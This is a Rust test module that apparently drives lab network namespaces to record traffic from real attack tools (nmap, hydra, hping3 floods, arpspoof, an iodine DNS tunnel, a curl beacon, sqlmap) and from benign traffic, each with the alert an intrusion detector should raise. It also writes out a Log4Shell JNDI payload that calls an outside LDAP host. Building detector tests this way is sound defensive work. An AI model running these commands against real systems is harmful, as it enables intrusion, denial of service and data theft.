//! What is recorded: which real tool does what, and what must be found in it.

mod benign;
mod neighbours;
mod services;
mod windows;

use super::super::Expect;
use super::super::cases::ATTACKER;
use super::super::craft::v4;
use super::Side;

const SERVER: std::net::IpAddr = v4([192, 168, 10, 5]);
/// What `as_neighbour` gives.
const NEIGHBOUR_ADDRESS: std::net::IpAddr = v4([192, 168, 10, 77]);

/// From here on the other namespace speaks as a host of the same network.
macro_rules! as_neighbour {
    () => {
        "ip addr add 192.168.10.77/24 dev sk-out; ip route change 192.168.10.0/24 dev sk-out src 192.168.10.77; \
         ip route change 192.168.20.0/24 via 192.168.10.5 src 192.168.10.77"
    };
}
use as_neighbour;

/// One capture to record.
pub(super) struct Recording {
    pub(super) name: &'static str,
    pub(super) about: &'static str,
    pub(super) expect: Vec<Expect>,
    /// Programs that run meanwhile: where, and a shell command that stays.
    pub(super) servers: &'static [(Side, &'static str)],
    /// What is recorded: where, and a shell command that ends.
    pub(super) acts: &'static [(Side, &'static str)],
}

pub(super) fn recordings() -> Vec<Recording> {
    let more = [neighbours::all(), services::all(), windows::all(), benign::all()];
    [scans(), floods(), names_and_tunnels(), weaknesses()].into_iter().chain(more).flatten().collect()
}

fn scans() -> Vec<Recording> {
    let scan = || vec![Expect::of("scan.port", Some(ATTACKER), Some(SERVER))];
    vec![
        Recording {
            name: "scan.port/positive-recorded-nmap-syn",
            about: "nmap -sS over 300 ports from outside.",
            expect: scan(),
            servers: &[],
            acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 -p1-300 192.168.10.5")],
        },
        Recording {
            name: "scan.port/positive-recorded-nmap-connect",
            about: "nmap -sT over 300 ports from outside.",
            expect: scan(),
            servers: &[],
            acts: &[(Side::Outside, "nmap -n -Pn -sT -T4 -p1-300 192.168.10.5")],
        },
        Recording {
            name: "scan.host/positive-recorded-nmap-sweep",
            about: "nmap looks for port 445 on all of 192.168.20.0/24.",
            expect: vec![Expect::of("scan.host", Some(ATTACKER), None)],
            servers: &[],
            acts: &[(Side::Outside, "nmap -n -Pn -sS -T4 --max-retries 0 -p445 192.168.20.0/24")],
        },
        Recording {
            name: "bruteforce.login/positive-recorded-hydra",
            about: "hydra tries 60 wrong passwords on a real SSH server.",
            expect: vec![Expect::of("bruteforce.login", Some(ATTACKER), Some(SERVER))],
            servers: &[(Side::Inside, SSHD)],
            acts: &[(Side::Outside, HYDRA)],
        },
        Recording {
            name: "scan.web/positive-recorded-gobuster",
            about: "gobuster tries 300 paths of a web server that has none of them.",
            expect: vec![Expect::of("scan.web", Some(ATTACKER), Some(SERVER))],
            servers: &[(Side::Inside, WEB)],
            acts: &[(
                Side::Outside,
                "sleep 5; seq -f page%03g 300 >words; gobuster dir -q -z -u http://192.168.10.5:80/ -w words || true",
            )],
        },
    ]
}

fn floods() -> Vec<Recording> {
    vec![
        Recording {
            name: "flood.syn/positive-recorded-hping3",
            about: "hping3 sends 4000 SYN from a forged source to an SSH server, about 300 a second.",
            expect: vec![Expect::of("flood.syn", None, Some(SERVER))],
            servers: &[(Side::Inside, SSHD)],
            acts: &[(
                Side::Outside,
                "hping3 -q -S -i u3000 -c 4000 -a 198.51.100.7 -p 22 192.168.10.5 || true",
            )],
        },
        Recording {
            name: "flood.volume/positive-recorded-hping3-icmp",
            about: "hping3 sends 6000 echo requests, about 1000 a second.",
            expect: vec![Expect::of("flood.volume", None, Some(SERVER))],
            servers: &[],
            acts: &[(Side::Outside, "hping3 -q --icmp -i u1000 -c 6000 192.168.10.5 || true")],
        },
        Recording {
            name: "flood.slow/positive-recorded-slowhttptest",
            about: "slowhttptest holds 200 connections of a web server open with headers that never end.",
            expect: vec![Expect::of("flood.slow", None, Some(SERVER))],
            servers: &[(Side::Inside, WEB)],
            acts: &[(
                Side::Outside,
                "sleep 5; ulimit -n 4096; slowhttptest -H -c 200 -r 50 -i 5 -l 60 -u http://192.168.10.5/ >log 2>&1 || true",
            )],
        },
        Recording {
            name: "spoof.arp/positive-recorded-arpspoof",
            about: "arpspoof tells the server from a second card that it is the router.",
            expect: vec![Expect::of("spoof.arp", None, None)],
            servers: &[],
            acts: &[
                (
                    Side::Outside,
                    "ip link add sk-forged link sk-out type macvlan mode bridge; ip link set sk-forged up; \
                    ip addr add 192.168.10.77/24 dev sk-forged; ip addr add 192.168.10.1/24 dev sk-out",
                ),
                (Side::Inside, "ping -c 3 192.168.10.1; ping -c 2 192.168.10.77"),
                (
                    Side::Outside,
                    "timeout 20 arpspoof -i sk-forged -t 192.168.10.5 192.168.10.1 >log 2>&1 || true",
                ),
            ],
        },
    ]
}

fn names_and_tunnels() -> Vec<Recording> {
    vec![
        Recording {
            name: "dns.tunnel/positive-recorded-iodine",
            about: "iodine carries 20 kB out through DNS names under tunnel.example.",
            expect: vec![Expect::of("dns.tunnel", Some(SERVER), None)],
            servers: &[
                (Side::Outside, "exec iodined -f -c -P secret 172.30.9.1 tunnel.example"),
                (Side::Inside, "sleep 1; exec iodine -f -r -P secret 203.0.113.66 tunnel.example"),
            ],
            acts: &[(
                Side::Inside,
                "sleep 8; for i in $(seq 25); do head -c 800 /dev/urandom >/dev/udp/172.30.9.1/9; sleep 0.2; done",
            )],
        },
        Recording {
            name: "dns.tunnel/benign-recorded-dig-curl",
            about: "dig asks dnsmasq for 40 names; curl reads pages over TLS.",
            expect: vec![],
            servers: &[
                (Side::Outside, "exec dnsmasq -k -C /dev/null -R -h --address=/example/203.0.113.66"),
                (Side::Outside, HTTPS),
            ],
            acts: &[(
                Side::Inside,
                "for i in $(seq 40); do dig +short www$i.city.example @203.0.113.66; \
                 curl -sk --resolve www$i.city.example:443:203.0.113.66 https://www$i.city.example/ >page; done",
            )],
        },
        Recording {
            name: "dns.dga/positive-recorded-dig",
            about: "dig asks dnsmasq for 80 random names, none of which exists.",
            expect: vec![Expect::of("dns.dga", Some(SERVER), None)],
            servers: &[(Side::Outside, "exec dnsmasq -k -C /dev/null -R -h --local=/com/ --local=/net/")],
            acts: &[(
                Side::Inside,
                "for i in $(seq 80); do name=$(head -c 200 /dev/urandom | tr -dc b-z | head -c 16); \
                 dig +short +tries=1 $name.com @203.0.113.66; done",
            )],
        },
        Recording {
            name: "c2.beacon/positive-recorded-curl",
            about: "curl posts to an address outside every three seconds for two and a half minutes.",
            expect: vec![Expect::of("c2.beacon", Some(SERVER), Some(ATTACKER))],
            servers: &[(Side::Outside, "exec python3 -m http.server 8080")],
            acts: &[(
                Side::Inside,
                "for i in $(seq 50); do curl -s -d id=17 http://203.0.113.66:8080/poll >page; sleep 3; done",
            )],
        },
    ]
}

fn weaknesses() -> Vec<Recording> {
    vec![
        Recording {
            name: "exploit.attempt/positive-recorded-sqlmap",
            about: "sqlmap looks for a way into a parameter of a web page.",
            expect: vec![Expect::of("exploit.attempt", Some(ATTACKER), Some(SERVER))],
            servers: &[(Side::Inside, WEB)],
            acts: &[(
                Side::Outside,
                "sleep 5; HOME=$PWD timeout 60 sqlmap --batch --level 1 --technique BU -u 'http://192.168.10.5/index.html?id=1' \
                 >log 2>&1 || true",
            )],
        },
        Recording {
            name: "exploit.attempt/positive-recorded-curl-log4shell",
            about: "curl sends a look-up for Log4j (CVE-2021-44228) as its User-Agent.",
            expect: vec![Expect::of("exploit.attempt", Some(ATTACKER), Some(SERVER))],
            servers: &[(Side::Inside, WEB)],
            acts: &[(
                Side::Outside,
                "sleep 5; for i in $(seq 5); do curl -s -A '${jndi:ldap://203.0.113.66:1389/a}' http://192.168.10.5/ >page; done",
            )],
        },
        Recording {
            name: "cleartext.credentials/positive-recorded-curl-basic",
            about: "curl logs in to a web server with a password in clear text.",
            expect: vec![Expect::of("cleartext.credentials", Some(SERVER), Some(ATTACKER))],
            servers: &[(Side::Outside, WEB_OUTSIDE)],
            acts: &[(
                Side::Inside,
                "for i in $(seq 4); do curl -s -u clerk:not-a-secret http://203.0.113.66/ >page; done",
            )],
        },
        Recording {
            name: "ssh.anomaly/positive-recorded-ssh-sha1",
            about: "ssh agrees on a key exchange with SHA-1 and 1024 bits.",
            expect: vec![Expect::of("ssh.anomaly", None, None)],
            servers: &[(Side::Inside, SSHD_OLD)],
            acts: &[(
                Side::Outside,
                "for i in 1 2 3; do ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
                 -o KexAlgorithms=diffie-hellman-group1-sha1 nobody@192.168.10.5 || true; done",
            )],
        },
        Recording {
            name: "tls.anomaly/positive-recorded-openssl-self-signed",
            about: "curl reads pages of a server whose certificate is self-signed.",
            expect: vec![Expect::of("tls.anomaly", None, None)],
            servers: &[(Side::Outside, HTTPS_OLD)],
            acts: &[(
                Side::Inside,
                "for i in $(seq 4); do curl -sk --tls-max 1.2 --resolve www.city.example:443:203.0.113.66 \
                 https://www.city.example/ >page; done",
            )],
        },
        Recording {
            name: "protocol.mismatch/positive-recorded-sshd-on-443",
            about: "ssh logs in to a server that listens on the port of HTTPS.",
            expect: vec![Expect::of("protocol.mismatch", None, None)],
            servers: &[(Side::Outside, SSHD_443)],
            acts: &[(
                Side::Inside,
                "for i in 1 2 3; do ssh -p 443 -o BatchMode=yes -o StrictHostKeyChecking=no \
                 -o UserKnownHostsFile=/dev/null nobody@203.0.113.66 || true; done",
            )],
        },
    ]
}

/// Python looks its own address up before it listens, and nobody answers here.
const WEB: &str = "echo page >index.html; export RES_OPTIONS='timeout:1 attempts:1'; \
    exec python3 -m http.server --bind 192.168.10.5 80";
const WEB_OUTSIDE: &str = "echo page >index.html; exec python3 -m http.server --bind 203.0.113.66 80";
const SSHD_OLD: &str = "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f \"$PWD/hostkey\" <<<y; \
    exec \"$(command -v sshd || echo /usr/sbin/sshd)\" -D -e -f /dev/null -h \"$PWD/hostkey\" -o UsePAM=no \
    -o KexAlgorithms=+diffie-hellman-group1-sha1 -o ListenAddress=192.168.10.5";
const SSHD_443: &str = "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f \"$PWD/hostkey\" <<<y; \
    exec \"$(command -v sshd || echo /usr/sbin/sshd)\" -D -e -f /dev/null -h \"$PWD/hostkey\" -o UsePAM=no \
    -p 443 -o ListenAddress=203.0.113.66";
const HTTPS_OLD: &str = "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=www.city.example \
    -keyout key.pem -out cert.pem; exec openssl s_server -quiet -www -accept 203.0.113.66:443 -key key.pem -cert cert.pem";

const HYDRA: &str = "seq -f guess%03g 60 >passwords; hydra -I -l nobody -P passwords -t 4 ssh://192.168.10.5";
const SSHD: &str = "mkdir -p /run/sshd; ssh-keygen -q -t ed25519 -N '' -f \"$PWD/hostkey\" <<<y; \
    exec \"$(command -v sshd || echo /usr/sbin/sshd)\" -D -e -f /dev/null -h \"$PWD/hostkey\" -o UsePAM=no \
    -o PasswordAuthentication=yes -o MaxStartups=100 -o ListenAddress=192.168.10.5";
const HTTPS: &str = "openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
    -subj /CN=city.example -keyout key.pem -out cert.pem; \
    exec openssl s_server -quiet -www -accept 203.0.113.66:443 -key key.pem -cert cert.pem";
